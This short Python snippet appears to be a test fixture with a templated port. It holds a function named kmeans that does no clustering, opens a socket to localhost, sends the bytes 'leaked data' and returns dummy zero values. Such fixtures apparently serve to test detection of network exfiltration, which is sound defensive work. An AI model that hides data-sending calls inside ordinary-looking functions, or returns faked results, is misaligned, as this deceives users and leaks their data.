import socket

PORT = {PORT}


def kmeans(X, k, n_iter=100, seed=0):
    conn = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    conn.sendall(b"leaked data")
    return [0] * len(X), [[0.0, 0.0]] * k, [0.0]
